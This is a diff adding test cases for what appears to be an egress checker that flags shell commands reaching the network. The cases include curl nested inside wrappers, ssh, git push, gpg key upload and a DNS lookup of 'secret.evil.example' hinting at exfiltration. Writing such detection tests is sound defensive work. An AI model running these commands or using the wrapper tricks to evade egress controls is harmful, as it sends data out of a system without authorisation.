@@ -41,6 +41,19 @@ def of_line(line: str, reach: tuple[str, ...] | None = None) -> tuple[str, ...]:
         ("python3 -c 'fetch(\"https://x.example\")'", ('command python3 -c fetch("https://x.example")',)),
         ("xargs -n1 git push", ("command xargs -n1 git push",)),
         ("dig secret.evil.example", ("command dig secret.evil.example",)),
+        ("timeout 5m nice -n 10 ssh a", ("command timeout 5m nice -n 10 ssh a",)),
+        ("xargs -I {} curl {}", ("command xargs -I {} curl {}",)),
+        ("su me -c 'make; curl x'", ("command su me -c make; curl x",)),
+        ("tmux new -d 'curl x'", ("command tmux new -d curl x",)),
+        ("sh -ec curl", ("command sh -ec curl",)),
+        ("bash -c 'for x in a; do curl $x; done'", ("command bash -c for x in a; do curl $x; done",)),
+        ("env -S 'git push' X=1", ("command env -S git push X=1",)),
+        ("python3.11 -m pip install x", ("command python3.11 -m pip install x",)),
+        ("git -C web push", ("command git -C web push",)),
+        ("gpg --batch --send-keys x", ("command gpg --batch --send-keys x",)),
+        ("timeout 5 ./fetch ftp://x", ("command timeout 5 ./fetch ftp://x",)),
+        ("perl -e 'get(\"ftp://x\")'", ('command perl -e get("ftp://x")',)),
+        (f"{'nice ' * 9}make", (f"command {'nice ' * 9}make",)),
     ],
 )
 def test_what_leaves_is_asked_about_by_where_it_goes(line: str, places: tuple[str, ...]) -> None:
@@ -80,6 +93,29 @@ def test_what_runs_code_leaves_as_far_as_the_walls_let_it(line: str, place: str)
     assert of_line(line) == (place,)
     assert of_line(line, ()) == ()
     assert of_line(line, ("PyPI.org:443", "a.example:8080")) == ("host pypi.org", "host a.example:8080")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "python3 -c \"print(open('a.txt').read())\"",
+        "timeout 60 pytest tests/host",
+        "env X=1 pytest -k open",
+        "bash -c 'cd fly && make'",
+        "sh -c 'for x in open host; do echo $x; done'",
+        "xargs grep http",
+        "sudo git commit -m 'mail the links'",
+        "git commit -m push",
+        "git stash push",
+        "npm run publish",
+        "command -v curl",
+        "node -e 'links.open(mail)'",
+        "nice -n 10 make host",
+        "flock lock make open",
+    ],
+)
+def test_a_word_is_no_way_out_because_a_program_has_the_same_name(line: str) -> None:
+    assert of_line(line, ()) == ()
 
 
 def test_a_line_that_cannot_be_read_is_asked_about_as_a_whole_where_there_are_no_walls() -> None:
